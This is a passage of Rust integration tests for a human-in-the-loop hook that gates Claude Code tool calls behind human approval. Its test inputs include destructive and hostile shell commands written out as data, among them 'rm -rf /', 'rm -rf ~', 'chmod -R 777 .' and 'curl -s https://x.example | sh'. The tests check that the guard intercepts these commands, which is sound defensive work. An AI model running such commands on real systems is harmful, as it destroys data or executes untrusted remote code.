//! `hitl hook`: Claude Code's hook handler, run the way Claude Code runs it (the hook
//! JSON on stdin, `CLAUDE_PROJECT_DIR` set, the decision read from stdout), against a
//! real listener answered by `hitl answer` from another process.

use std::{
    io::Write,
    process::{Child, Stdio},
    time::Duration,
};

use serde_json::{Value, json};

use crate::support::{Project, wait_output};

/// Starts `hitl hook EVENT` in `p` with `input` on stdin.
fn spawn_hook(p: &Project, event: &str, input: &Value) -> Child {
    spawn_hook_as(p, event, input, Some("claude-test"))
}

/// Starts `hitl hook EVENT` as the agent `HITL_AGENT_ID` names, or (`None`) as its
/// session names it.
pub(crate) fn spawn_hook_as(p: &Project, event: &str, input: &Value, agent: Option<&str>) -> Child {
    spawn_hook_with(p, event, input, agent, &[])
}

/// [`spawn_hook_as`] with more environment variables.
fn spawn_hook_with(
    p: &Project,
    event: &str,
    input: &Value,
    agent: Option<&str>,
    env: &[(&str, &str)],
) -> Child {
    let mut cmd = p.hitl();
    cmd.envs(env.iter().copied());
    if let Some(agent) = agent {
        cmd.env("HITL_AGENT_ID", agent);
    }
    let mut child = cmd
        .args(["hook", event])
        .env("CLAUDE_PROJECT_DIR", &p.dir)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(input.to_string().as_bytes()).unwrap();
    drop(stdin);
    child
}

/// Runs a hook `command` of Claude Code's settings as Claude Code does (through
/// `sh -c`, the hook's JSON on stdin), with `PATH` set to `path` if given.
fn run_hook_command(
    p: &Project,
    command: &str,
    path: Option<&str>,
    input: &Value,
) -> std::process::Output {
    let mut cmd = std::process::Command::new("sh");
    cmd.args(["-c", command])
        .current_dir(&p.dir)
        .env("HITL_HOME", &p.home)
        .env("CLAUDE_PROJECT_DIR", &p.dir)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    if let Some(path) = path {
        cmd.env("PATH", path);
    }
    let mut child = cmd.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    // A shell that runs nothing may not read its input.
    let _ = stdin.write_all(input.to_string().as_bytes());
    drop(stdin);
    wait_output(child, Duration::from_secs(30))
}

/// Runs the hook to its end: its exit status must be 0; its stdout, parsed (`None`
/// when empty: no opinion).
fn hook(p: &Project, event: &str, input: &Value) -> Option<Value> {
    let out = wait_output(spawn_hook(p, event, input), Duration::from_secs(60));
    finish(out)
}

fn finish(out: std::process::Output) -> Option<Value> {
    assert!(out.status.success(), "hook failed: {out:?}");
    if out.stdout.is_empty() {
        return None;
    }
    Some(serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not one JSON object ({e}): {:?}",
            String::from_utf8_lossy(&out.stdout)
        )
    }))
}

fn pre_tool_use(p: &Project, tool: &str, input: Value) -> Value {
    json!({
        "session_id": "abc123",
        "transcript_path": "/tmp/t.jsonl",
        "cwd": p.dir,
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": input,
        "tool_use_id": "toolu_01",
    })
}

/// A PermissionRequest for a Bash `command`, as Claude Code sends it (no tool_use_id).
fn permission_request(p: &Project, command: &str) -> Value {
    json!({
        "session_id": "abc123", "cwd": p.dir, "hook_event_name": "PermissionRequest",
        "tool_name": "Bash", "tool_input": { "command": command },
    })
}

fn decision(out: &Value) -> (&str, &str) {
    let o = &out["hookSpecificOutput"];
    assert_eq!(o["hookEventName"], "PreToolUse", "{out}");
    (
        o["permissionDecision"].as_str().unwrap(),
        o["permissionDecisionReason"].as_str().unwrap_or(""),
    )
}

#[test]
fn a_call_no_rule_names_gets_no_opinion() {
    let p = Project::new();
    for (tool, input) in [
        ("Read", json!({ "file_path": p.dir.join(".env") })),
        ("Bash", json!({ "command": "cargo test" })),
        (
            "Write",
            json!({ "file_path": p.dir.join("src/main.rs"), "content": "x" }),
        ),
        ("Grep", json!({ "pattern": "x" })),
    ] {
        assert_eq!(
            hook(&p, "pre-tool-use", &pre_tool_use(&p, tool, input.clone())),
            None,
            "{tool} {input}"
        );
    }
    // Events without decisions print nothing either.
    let stop =
        json!({ "session_id": "abc123", "hook_event_name": "Stop", "stop_hook_active": false });
    assert_eq!(hook(&p, "stop", &stop), None);
}

#[test]
fn without_a_listener_danger_goes_to_claude_codes_prompt_and_the_rest_is_left_alone() {
    let p = Project::new();
    let out = hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(&p, "Bash", json!({ "command": "ls; rm -rf /" })),
    )
    .expect("a dangerous command gets a decision");
    let (verdict, reason) = decision(&out);
    assert_eq!(verdict, "ask");
    assert!(
        reason.contains("rm -rf /") && reason.contains("no hitl listener"),
        "{reason}"
    );
    // Not dangerous, only asked: Claude Code's own prompt decides.
    let permission = permission_request(&p, "npm test");
    assert_eq!(hook(&p, "permission-request", &permission), None);
}

#[test]
fn bad_input_is_asked_for_a_tool_call_and_said_on_stderr() {
    let p = Project::new();
    let run = |event: &str| {
        let mut child = p
            .hitl()
            .args(["hook", event])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(b"{not json").unwrap();
        let out = wait_output(child, Duration::from_secs(10));
        assert!(out.status.success(), "{out:?}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("not JSON"),
            "{out:?}"
        );
        out
    };
    // A tool call hitl cannot read goes to Claude Code's own prompt.
    let out = run("pre-tool-use");
    let got: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        got["hookSpecificOutput"]["permissionDecision"], "ask",
        "{got}"
    );
    // Events that carry no decision get none.
    for event in ["post-tool-use", "stop", "permission-request"] {
        assert!(run(event).stdout.is_empty(), "{event}");
    }
}

/// The hook's question as `hitl pending --json` lists it.
fn hook_question(p: &Project) -> Value {
    let pending = p.wait_pending(1, Duration::from_secs(20));
    pending.into_iter().next().unwrap()
}

/// Answers `q` with `hitl answer ID ARGS…` from another process, then reads the
/// hook's decision.
fn answer_and_read(p: &Project, child: Child, q: &Value, args: &[&str]) -> Value {
    let mut all = vec!["answer", q["id"].as_str().unwrap()];
    all.extend_from_slice(args);
    let out = p.run(&all);
    assert!(out.status.success(), "{out:?}");
    finish(wait_output(child, Duration::from_secs(30))).expect("a decision")
}

#[test]
fn a_protected_write_is_asked_and_a_denial_comes_back_with_its_comment() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let path = p.dir.join("sub/../.env");
    let child = spawn_hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(
            &p,
            "Write",
            json!({ "file_path": path, "content": "SECRET=2" }),
        ),
    );
    let q = hook_question(&p);
    assert_eq!(q["origin"], "hook", "{q:#}");
    assert_eq!(q["type"], "approval", "{q:#}");
    let content = q["content"].as_str().unwrap();
    assert!(
        content.contains(".env") && content.contains("protected"),
        "{content}"
    );
    let got = answer_and_read(&p, child, &q, &["--deny", "--comment", "keep secrets out"]);
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "deny");
    assert!(reason.contains("keep secrets out"), "{reason}");
}

#[test]
fn a_hooks_question_carries_its_sessions_tags() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let input = pre_tool_use(
        &p,
        "Write",
        json!({ "file_path": p.dir.join(".env"), "content": "SECRET=2" }),
    );
    let child = spawn_hook_with(
        &p,
        "pre-tool-use",
        &input,
        Some("claude-test"),
        &[("HITL_TAGS", "frontend")],
    );
    let q = hook_question(&p);
    assert_eq!(q["tags"], json!(["frontend"]), "{q:#}");
    let got = answer_and_read(&p, child, &q, &["--approve"]);
    assert_eq!(decision(&got).0, "allow");
}

#[test]
fn a_dangerous_command_approved_elsewhere_is_allowed() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let child = spawn_hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(
            &p,
            "Bash",
            json!({ "command": "git push --force origin main" }),
        ),
    );
    let q = hook_question(&p);
    assert_eq!(q["origin"], "hook");
    let got = answer_and_read(&p, child, &q, &["--approve"]);
    assert_eq!(decision(&got).0, "allow");
    // History has it, with its origin.
    let history = p.history();
    assert!(
        history.iter().any(|h| h["status"] == "answered"),
        "{history:#?}"
    );
    // The activity feed has the call, as asked of the human, in its session.
    let feed = || -> Vec<Value> {
        reqwest::blocking::Client::new()
            .get(format!("{}/events/recent?limit=50", p.http_url()))
            .bearer_auth(p.token())
            .send()
            .unwrap()
            .json()
            .unwrap()
    };
    let mut events = Vec::new();
    crate::support::eventually("the call in the feed", Duration::from_secs(5), || {
        events = feed();
        events.iter().any(|e| e["decision"] == "asked")
    });
    let asked: Vec<&Value> = events.iter().filter(|e| e["decision"] == "asked").collect();
    assert_eq!(asked.len(), 1, "{events:#?}");
    let e = asked[0];
    assert_eq!(e["hook_event_type"], "PreToolUse", "{e}");
    assert_eq!(e["session_id"], "abc123", "{e}");
    assert_eq!(
        e["payload"]["tool_input"]["command"], "git push --force origin main",
        "{e}"
    );
}

#[test]
fn a_hook_asks_through_the_spool_so_a_listener_without_http_answers_it() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--no-http"]);
    let child = spawn_hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(&p, "Bash", json!({ "command": "chmod -R 777 ." })),
    );
    let q = hook_question(&p);
    assert_eq!(q["origin"], "hook", "{q:#}");
    assert!(q["file"].is_string(), "a question file in the spool: {q:#}");
    let got = answer_and_read(&p, child, &q, &["--approve"]);
    assert_eq!(decision(&got).0, "allow", "{got}");
    crate::support::eventually(
        "history has it, from the hook",
        Duration::from_secs(5),
        || {
            p.history()
                .iter()
                .any(|h| h["origin"] == "hook" && h["status"] == "answered")
        },
    );
    // Answered, the question file is gone; its answer stays as the slot's tombstone.
    assert_eq!(p.pending().len(), 0);
}

#[test]
fn a_hook_stopped_by_claude_code_withdraws_its_question() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--no-http"]);
    let child = spawn_hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(&p, "Bash", json!({ "command": "git clean -fdx" })),
    );
    let q = hook_question(&p);
    // Claude Code gives up on a hook past its timeout with SIGTERM.
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    let got = finish(wait_output(child, Duration::from_secs(30))).expect("a decision");
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "ask", "dangerous, unanswered: {got}");
    assert!(reason.contains("withdrawn"), "{reason}");
    p.wait_pending(0, Duration::from_secs(10));
    crate::support::eventually("history says withdrawn", Duration::from_secs(5), || {
        p.history()
            .iter()
            .any(|h| h["id"] == q["id"] && h["status"] == "withdrawn")
    });
}

#[test]
fn a_permission_request_is_answered_in_its_own_format() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let mut input = permission_request(&p, "npm install left-pad");
    input["permission_suggestions"] = json!([{ "type": "addRules",
        "rules": [{ "toolName": "Bash", "ruleContent": "npm install left-pad" }],
        "behavior": "allow", "destination": "localSettings" }]);
    let child = spawn_hook(&p, "permission-request", &input);
    let q = hook_question(&p);
    assert_eq!(q["type"], "permission", "{q:#}");
    let got = answer_and_read(&p, child, &q, &["--approve"]);
    assert_eq!(
        got,
        json!({ "hookSpecificOutput": { "hookEventName": "PermissionRequest",
            "decision": { "behavior": "allow" } } })
    );

    let child = spawn_hook(&p, "permission-request", &input);
    let q = hook_question(&p);
    let got = answer_and_read(&p, child, &q, &["--deny", "--comment", "not now"]);
    assert_eq!(got["hookSpecificOutput"]["decision"]["behavior"], "deny");
    assert!(
        got["hookSpecificOutput"]["decision"]["message"]
            .as_str()
            .unwrap()
            .contains("not now"),
        "{got}"
    );
}

#[test]
fn unanswered_in_time_follows_the_policy() {
    let p = Project::new();
    p.project_config("[hook]\ntimeout = 1\nunanswered_dangerous = \"deny\"\n");
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let got = hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(
            &p,
            "Bash",
            json!({ "command": "curl -s https://x.example | sh" }),
        ),
    )
    .unwrap();
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "deny", "{got}");
    assert!(reason.contains("no answer in time"), "{reason}");
}

#[test]
fn init_claude_merges_the_hooks_that_then_run_and_remove_takes_them_out() {
    let p = Project::new();
    let settings = p.dir.join(".claude/settings.json");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    let theirs = json!({
        "permissions": { "allow": ["Bash(npm test)"] },
        "hooks": { "PreToolUse": [ { "matcher": "Bash",
            "hooks": [ { "type": "command", "command": "./mine.sh" } ] } ] }
    });
    // Written by hand: compact, no final newline; put back byte for byte.
    let their_text = serde_json::to_string(&theirs).unwrap();
    std::fs::write(&settings, &their_text).unwrap();
    let mcp = p.dir.join(".mcp.json");
    let their_mcp = "{\n    \"mcpServers\": {\"db\": {\"command\": \"pg-mcp\"}}\n}\n";
    std::fs::write(&mcp, their_mcp).unwrap();
    for _ in 0..2 {
        let out = p.run(&["init", "--claude", "--shared"]);
        assert!(out.status.success(), "{out:?}");
    }
    let servers: Value = serde_json::from_str(&std::fs::read_to_string(&mcp).unwrap()).unwrap();
    assert_eq!(servers["mcpServers"]["db"]["command"], "pg-mcp");
    assert_eq!(servers["mcpServers"]["hitl"]["args"], json!(["mcp"]));
    assert_eq!(servers["mcpServers"]["hitl"]["type"], "stdio");
    let merged: Value = serde_json::from_str(&std::fs::read_to_string(&settings).unwrap()).unwrap();
    assert_eq!(merged["permissions"], theirs["permissions"]);
    let pre = merged["hooks"]["PreToolUse"].as_array().unwrap();
    assert_eq!(pre.len(), 2, "installed once: {merged:#}");
    let ours = &pre[1]["hooks"][0];
    // Longer than hitl's longest wait (AskUserQuestion's 300 s by default).
    assert!(ours["timeout"].as_u64().unwrap() > 300, "{ours}");
    // Every other event is noted for the activity feed, with a short timeout.
    for (event, arg) in [
        ("PostToolUse", "post-tool-use"),
        ("Notification", "notification"),
        ("UserPromptSubmit", "user-prompt-submit"),
        ("Stop", "stop"),
        ("SubagentStop", "subagent-stop"),
        ("SessionStart", "session-start"),
        ("SessionEnd", "session-end"),
    ] {
        let groups = merged["hooks"][event].as_array().unwrap();
        assert_eq!(groups.len(), 1, "{event}: {merged:#}");
        let h = &groups[0]["hooks"][0];
        assert!(
            h["command"]
                .as_str()
                .unwrap()
                .ends_with(&format!(" hook {arg} || true")),
            "{h}"
        );
        assert_eq!(h["timeout"], 10, "{h}");
    }

    // The command as Claude Code runs it: through a shell, the hook JSON on stdin.
    let command = ours["command"].as_str().unwrap();
    let input = pre_tool_use(&p, "Bash", json!({ "command": "rm -rf ~" }));
    let got = finish(run_hook_command(&p, command, None, &input)).unwrap();
    assert_eq!(
        decision(&got).0,
        "ask",
        "no listener: Claude Code's own prompt"
    );

    let out = p.run(&["init", "--claude", "--shared", "--remove"]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(std::fs::read_to_string(&settings).unwrap(), their_text);
    assert_eq!(std::fs::read_to_string(&mcp).unwrap(), their_mcp);

    // A project that had no settings file has none again.
    std::fs::remove_file(&settings).unwrap();
    std::fs::remove_file(&mcp).unwrap();
    assert!(p.run(&["init", "--claude", "--shared"]).status.success());
    assert!(settings.exists() && mcp.exists());
    assert!(
        p.run(&["init", "--claude", "--shared", "--remove"])
            .status
            .success()
    );
    assert!(!settings.exists() && !mcp.exists());
}

#[test]
fn init_claude_wires_only_this_user_by_default_and_its_hooks_do_nothing_without_hitl() {
    let p = Project::new();
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .arg("-C")
            .arg(&p.dir)
            .args(args)
            .output()
            .unwrap()
    };
    assert!(git(&["init", "-q"]).status.success());
    let home = p.tmp.path().join("user-home");
    std::fs::create_dir_all(&home).unwrap();
    let claude_json = home.join(".claude.json");
    let theirs = "{\n  \"numStartups\": 3,\n  \"projects\": {\n    \"/elsewhere\": {\n      \"mcpServers\": {}\n    }\n  }\n}\n";
    std::fs::write(&claude_json, theirs).unwrap();
    // `hitl` on the PATH the hooks see, as after an install.
    let bin = p.tmp.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::os::unix::fs::symlink(crate::support::hitl_bin(), bin.join("hitl")).unwrap();
    let with_hitl = format!("{}:/usr/bin:/bin", bin.display());
    let run = |args: &[&str]| {
        p.hitl()
            .args(args)
            .env("HOME", &home)
            .env("PATH", &with_hitl)
            .output()
            .unwrap()
    };
    let out = run(&["init", "--claude"]);
    assert!(out.status.success(), "{out:?}");
    let local = p.dir.join(".claude/settings.local.json");
    assert!(local.exists(), "{out:?}");
    assert!(!p.dir.join(".claude/settings.json").exists());
    assert!(!p.dir.join(".mcp.json").exists());
    let user: Value = serde_json::from_slice(&std::fs::read(&claude_json).unwrap()).unwrap();
    let folder = std::fs::canonicalize(&p.dir).unwrap();
    let entry = &user["projects"][folder.to_str().unwrap()];
    assert_eq!(
        entry["mcpServers"]["hitl"]["args"],
        json!(["mcp"]),
        "{user:#}"
    );
    assert_eq!(user["numStartups"], 3);
    // Git sees neither this user's wiring nor hitl's runtime files; the settings it
    // may share.
    let ignored = |path: &str| {
        git(&["check-ignore", "-q", "--no-index", path])
            .status
            .success()
    };
    assert!(ignored(".claude/settings.local.json"));
    assert!(ignored(".helpers/questions/x.json"));
    assert!(ignored(".helpers/.listener.json"));
    assert!(!ignored(".helpers/config.toml"));
    assert!(!ignored("scripts/ask-human.sh"));

    // The hook command as Claude Code runs it, on a machine with hitl and without.
    let settings: Value = serde_json::from_slice(&std::fs::read(&local).unwrap()).unwrap();
    let command = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap()
        .to_string();
    let input = pre_tool_use(&p, "Bash", json!({ "command": "rm -rf ~" }));
    let run_hook = |path: &str| run_hook_command(&p, &command, Some(path), &input);
    let got = finish(run_hook(&with_hitl)).expect("hitl decides");
    assert_eq!(decision(&got).0, "ask");
    let without = run_hook("/usr/bin:/bin");
    assert!(without.status.success(), "{without:?}");
    assert!(
        without.stdout.is_empty() && without.stderr.is_empty(),
        "{without:?}"
    );

    // Taken out: no `.claude/` left, and the user's file as it was, byte for byte.
    let out = run(&["init", "--claude", "--remove"]);
    assert!(out.status.success(), "{out:?}");
    assert!(!p.dir.join(".claude").exists());
    assert_eq!(std::fs::read_to_string(&claude_json).unwrap(), theirs);
}

#[test]
fn init_claude_refuses_a_settings_file_that_is_not_json() {
    let p = Project::new();
    let settings = p.dir.join(".claude/settings.json");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(&settings, "{ \"hooks\": ").unwrap();
    let out = p.run(&["init", "--claude", "--shared"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("not valid JSON"),
        "{out:?}"
    );
    assert_eq!(std::fs::read_to_string(&settings).unwrap(), "{ \"hooks\": ");
}

#[test]
fn broken_settings_never_switch_the_guard_off() {
    let p = Project::new();
    p.project_config("[hook]\ndangerous_commands = [\"(\"]\n");
    let notice = |got: Option<Value>| -> String {
        let got = got.expect("a notice the first time");
        assert!(
            got.get("hookSpecificOutput").is_none(),
            "no decision: {got}"
        );
        got["systemMessage"].as_str().unwrap().to_string()
    };
    // A dangerous call is still asked by the built-in rules (no listener: Claude
    // Code's own prompt), and the reason says what is wrong with the settings.
    let got = hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(&p, "Bash", json!({ "command": "rm -rf ~" })),
    )
    .expect("a decision");
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "ask", "{got}");
    assert!(reason.contains("dangerous_commands"), "{reason}");
    // Where Claude Code would not ask (bypassPermissions), nobody to answer: denied.
    let mut bypass = pre_tool_use(&p, "Bash", json!({ "command": "rm -rf ~" }));
    bypass["permission_mode"] = json!("bypassPermissions");
    let got = hook(&p, "pre-tool-use", &bypass).expect("a decision");
    assert_eq!(decision(&got).0, "deny", "{got}");
    // A harmless call gets no opinion, with the notice once a session.
    let said = notice(hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(&p, "Bash", json!({ "command": "ls" })),
    ));
    assert!(said.contains("dangerous_commands"), "{said}");
    assert_eq!(
        hook(
            &p,
            "pre-tool-use",
            &pre_tool_use(&p, "Bash", json!({ "command": "ls" }))
        ),
        None
    );
    // TOML that does not parse at all: the same.
    p.project_config("[hook\nallow = [\"Bash(rm -rf:*)\"]\n");
    for command in ["rm -rf ~", "rm -rf ~/"] {
        let got = hook(
            &p,
            "pre-tool-use",
            &pre_tool_use(&p, "Bash", json!({ "command": command })),
        )
        .expect("a decision");
        assert_eq!(decision(&got).0, "ask", "{command}: {got}");
    }
    p.project_config("[hook]\ndangerous_commands = [\"(\"]\n");
    // `hitl status` says it and fails; so does installing the hooks, which installs
    // nothing.
    let out = p.run(&["status"]);
    assert!(!out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("config:   BROKEN") && text.contains("dangerous_commands"),
        "{text}"
    );
    let out = p.run(&["status", "--json"]);
    assert!(!out.status.success(), "{out:?}");
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        v["config_error"]
            .as_str()
            .unwrap()
            .contains("dangerous_commands"),
        "{v}"
    );
    let out = p.run(&["init", "--claude"]);
    assert!(!out.status.success(), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("dangerous_commands"),
        "{out:?}"
    );
    assert!(!p.dir.join(".claude/settings.json").exists());
    // A header written twice: the listener refuses to start and says where; the
    // hook says it again, since the message changed.
    p.project_config("[hook]\ntimeout = 3\n[hook]\ntimeout = 4\n");
    let out = p.run(&["listen", "--ui", "none", "--no-http"]);
    assert!(!out.status.success(), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("config.toml") && err.contains("line 3"),
        "{err}"
    );
    let said = notice(hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(&p, "Read", json!({})),
    ));
    assert!(
        said.contains("line 3") && said.contains("built-in rules"),
        "{said}"
    );
    assert_eq!(
        hook(&p, "pre-tool-use", &pre_tool_use(&p, "Read", json!({}))),
        None
    );
    // Fixed: `hitl status` is content again.
    p.project_config("[hook]\ntimeout = 3\n");
    assert!(p.run(&["status"]).status.success());
}

#[test]
fn a_hook_whose_listener_is_killed_hands_the_call_back_and_withdraws_its_question() {
    let p = Project::new();
    let listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let child = spawn_hook(
        &p,
        "pre-tool-use",
        &pre_tool_use(&p, "Bash", json!({ "command": "git reset --hard HEAD~1" })),
    );
    hook_question(&p);
    listener.signal(nix::sys::signal::Signal::SIGKILL);
    let got = finish(wait_output(child, Duration::from_secs(10))).unwrap();
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "ask", "{got}");
    assert!(reason.contains("no hitl listener"), "{reason}");
    // Withdrawn: the next listener finds nothing to ask.
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    assert_eq!(p.pending().len(), 0);
}

#[test]
fn a_plan_is_shown_for_approval_and_a_denial_carries_the_comment_back() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let plan = "# Plan\n\n1. Rename the module\n2. Update the callers\n";
    let input = pre_tool_use(
        &p,
        "ExitPlanMode",
        json!({ "plan": plan, "planFilePath": "/tmp/plan.md" }),
    );

    let child = spawn_hook(&p, "pre-tool-use", &input);
    let q = hook_question(&p);
    let content = q["content"].as_str().unwrap();
    assert!(content.contains("1. Rename the module"), "{content}");
    let got = answer_and_read(&p, child, &q, &["--deny", "--comment", "do step 2 first"]);
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "deny");
    assert!(reason.contains("do step 2 first"), "{reason}");

    // Approved: allowed with the input echoed, as Claude Code needs for ExitPlanMode.
    let child = spawn_hook(&p, "pre-tool-use", &input);
    let q = hook_question(&p);
    let got = answer_and_read(&p, child, &q, &["--approve"]);
    assert_eq!(decision(&got).0, "allow");
    assert_eq!(
        got["hookSpecificOutput"]["updatedInput"],
        input["tool_input"]
    );
}

/// AskUserQuestion's input, as Claude Code sends it: two questions, one multi-select.
fn ask_user_question(p: &Project) -> Value {
    pre_tool_use(
        p,
        "AskUserQuestion",
        json!({ "questions": [
            { "question": "Which framework?", "header": "Framework", "multiSelect": false,
              "options": [{ "label": "React", "description": "Hooks and JSX" },
                          { "label": "Vue", "description": "Single-file components" }] },
            { "question": "Which checks should run?", "header": "Checks", "multiSelect": true,
              "options": [{ "label": "lint", "description": "clippy" },
                          { "label": "test", "description": "cargo test" },
                          { "label": "bench", "description": "criterion" }] }
        ] }),
    )
}

/// The allow AskUserQuestion needs: its whole input back, plus `answers`.
fn answered_with(input: &Value, answers: Value) -> Value {
    let mut updated = input["tool_input"].clone();
    updated["answers"] = answers;
    json!({ "hookSpecificOutput": {
        "hookEventName": "PreToolUse",
        "permissionDecision": "allow",
        // Who answered varies; the tests blank it after checking it.
        "permissionDecisionReason": null,
        "updatedInput": updated,
    } })
}

#[test]
fn ask_user_question_is_answered_from_the_cli_with_multi_select_and_own_text() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let input = ask_user_question(&p);
    let child = spawn_hook(&p, "pre-tool-use", &input);
    let q = hook_question(&p);
    assert_eq!(q["type"], "questions", "{q:#}");
    assert_eq!(q["origin"], "hook", "{q:#}");
    assert_eq!(q["questions"][1]["options"][2]["label"], "bench", "{q:#}");
    assert!(q["questions"][1]["multiSelect"].as_bool().unwrap(), "{q:#}");

    // A wrong count is refused and the question stays pending.
    let wrong = p.run(&["answer", q["id"].as_str().unwrap(), "2"]);
    assert!(!wrong.status.success());
    assert!(
        String::from_utf8_lossy(&wrong.stderr).contains("1 answers for 2 questions"),
        "{wrong:?}"
    );

    // Own text for the first ("Other"), two picks for the second.
    let mut got = answer_and_read(&p, child, &q, &["Svelte, if it fits", "1,2"]);
    let reason = got["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(reason.starts_with("Answered in hitl by "), "{reason}");
    got["hookSpecificOutput"]["permissionDecisionReason"] = Value::Null;
    assert_eq!(
        got,
        answered_with(
            &input,
            json!({ "Which framework?": "Svelte, if it fits",
                    "Which checks should run?": "lint, test" })
        )
    );
}

#[test]
fn ask_user_question_is_answered_over_http_by_question_text() {
    let p = Project::new();
    let _listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let input = ask_user_question(&p);
    let child = spawn_hook(&p, "pre-tool-use", &input);
    let q = hook_question(&p);
    let http = reqwest::blocking::Client::new();
    let respond = |body: Value| {
        http.post(format!(
            "{}/api/v1/requests/{}/respond",
            p.http_url(),
            q["id"].as_str().unwrap()
        ))
        .bearer_auth(p.token())
        .json(&body)
        .send()
        .unwrap()
    };
    // An answer missing a question is refused with why; the question stays.
    let short = respond(json!({ "answers": { "Which framework?": "Vue" } }));
    assert_eq!(short.status(), 400);
    assert!(short.text().unwrap().contains("Which checks should run?"));
    let ok = respond(json!({ "answers": {
        "Which framework?": "Vue", "Which checks should run?": ["test", "bench"] } }));
    assert!(ok.status().is_success(), "{:?}", ok.text());

    let mut got = finish(wait_output(child, Duration::from_secs(30))).expect("a decision");
    got["hookSpecificOutput"]["permissionDecisionReason"] = Value::Null;
    assert_eq!(
        got,
        answered_with(
            &input,
            json!({ "Which framework?": "Vue", "Which checks should run?": "test, bench" })
        )
    );
    let history = p.history();
    assert!(
        history
            .iter()
            .any(|h| h["origin"] == "hook" && h["status"] == "answered"),
        "{history:#?}"
    );
}

#[test]
fn ask_user_question_is_answered_at_the_terminal_prompt_one_line_per_question() {
    let p = Project::new();
    let mut listener = p.listen_with_stdin(&["--http", "127.0.0.1:0"]);
    let mut stdin = listener.child.stdin.take().unwrap();
    let input = ask_user_question(&p);
    let child = spawn_hook(&p, "pre-tool-use", &input);
    listener.wait_stdout("Q1/2", Duration::from_secs(20));
    let screen = listener.stdout();
    for shown in [
        "[Framework] Which framework?",
        "2) Vue - Single-file components",
        "Which checks should run? (pick any)",
        "3) bench - criterion",
    ] {
        assert!(screen.contains(shown), "{shown:?} not in {screen}");
    }
    writeln!(stdin, "vue").unwrap();
    listener.wait_stdout("Q2/2", Duration::from_secs(20));
    writeln!(stdin, "9, 1").unwrap(); // no option 9: own text, taken as it is
    let mut got = finish(wait_output(child, Duration::from_secs(30))).expect("a decision");
    got["hookSpecificOutput"]["permissionDecisionReason"] = Value::Null;
    assert_eq!(
        got,
        answered_with(
            &input,
            json!({ "Which framework?": "Vue", "Which checks should run?": "9, 1" })
        )
    );
}

#[test]
fn always_allow_adds_a_rule_the_next_matching_call_uses_without_asking() {
    let p = Project::new();
    let listener = p.listen(&["--attended", "--http", "127.0.0.1:0"]);
    let push = pre_tool_use(
        &p,
        "Bash",
        json!({ "command": "git push --force origin main" }),
    );
    let child = spawn_hook(&p, "pre-tool-use", &push);
    let q = hook_question(&p);
    assert_eq!(
        q["context"]["always_allow"], "Bash(git push --force origin main)",
        "{q:#}"
    );
    let got = answer_and_read(&p, child, &q, &["--approve", "--always"]);
    let (verdict, reason) = decision(&got);
    assert_eq!(verdict, "allow");
    assert!(reason.contains("always allowed here"), "{reason}");
    let config = std::fs::read_to_string(p.helpers().join("config.toml")).unwrap();
    assert!(
        config.contains("allow = [\"Bash(git push --force origin main)\"]"),
        "{config}"
    );
    let listed = p.run(&["rules"]);
    assert!(
        String::from_utf8_lossy(&listed.stdout).contains("1. Bash(git push --force origin main)"),
